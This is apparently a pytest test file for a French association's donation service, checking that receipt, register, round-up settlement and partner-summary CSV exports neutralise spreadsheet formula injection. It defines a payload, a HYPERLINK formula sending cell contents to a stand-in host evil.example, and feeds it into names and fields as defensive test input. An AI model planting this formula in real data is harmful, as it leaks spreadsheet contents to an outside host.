"""Every CSV the service produces neutralises cells a spreadsheet would run as a formula (CSV
injection): a donor, merchant or partner named `=HYPERLINK(...)` comes out as text, numbers stay
numbers."""
import csv
import io
from datetime import date

import pytest

from app.csv import safe_cell
from app.extensions import db
from tests.receipts.conftest import finance, gifts  # noqa: F401  (fixtures)
from tests.roundup.conftest import record, settle, shops  # noqa: F401  (fixtures)
from tests.summaries.conftest import scenario, territory  # noqa: F401  (fixtures)

EVIL = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'


def rows_of(response):
    assert response.status_code == 200 and response.mimetype == "text/csv", response.data[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):  # only a plain negative number may start with a minus
                float(cell.replace(",", "."))


@pytest.mark.parametrize("value, shown", [
    (EVIL, "'" + EVIL), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Marie", "Marie"), ("-12.50", "-12.50"), ("-12,50", "-12,50"),
    (-1250, "-1250"), (None, ""), ("a=b", "a=b"),
])
def test_a_cell_that_would_be_a_formula_is_text(value, shown):
    assert safe_cell(value) == shown


def test_receipts_export_and_register(client, finance, gifts):  # noqa: F811
    campaign = gifts.campaign()
    gifts.gift(campaign, 5_000, paid_on=date(2026, 2, 1), payment_method="transfer", first_name=EVIL, city=EVIL,
               email="evil@example.org")
    gifts.run_job()
    number = gifts.receipts()[0][0]  # cancelled with a reason the register prints
    assert client.post(f"/api/v1/receipts/asso-test/{number}/cancel", json={"reason": EVIL},
                       headers=finance).status_code == 200
    year = date.today().year
    for path in (f"/api/v1/receipts/export.csv?year={year}", f"/api/v1/receipts/register.csv?year={year}"):
        rows = rows_of(client.get(path, headers=finance))
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row), path
        assert_no_formula(rows)


def test_round_up_statement(app, client, shops, actors):  # noqa: F811
    headers = shops.merchant(name=EVIL)
    record(client, headers, "T1", 1201, 99, occurred_at="2026-09-05T12:00:00+00:00")
    statement = settle(app, "boulangerie", date(2026, 9, 1))
    rows = rows_of(client.get(f"/api/v1/settlements/{statement}.csv", headers=headers))
    assert rows[1][0] == "'" + EVIL
    assert_no_formula(rows)


def test_partner_summary(client, actors, scenario):  # noqa: F811
    from campaigns.models import Partner

    with client.application.app_context():
        db.session.scalar(db.select(Partner).where(Partner.slug == "la-poste")).name = EVIL
        db.session.commit()
    rows = rows_of(client.get("/api/v1/partners/la-poste/summary.csv", headers=actors.admin()))
    assert rows[-1][:2] == ["TOTAL", "'" + EVIL]
    assert_no_formula(rows)
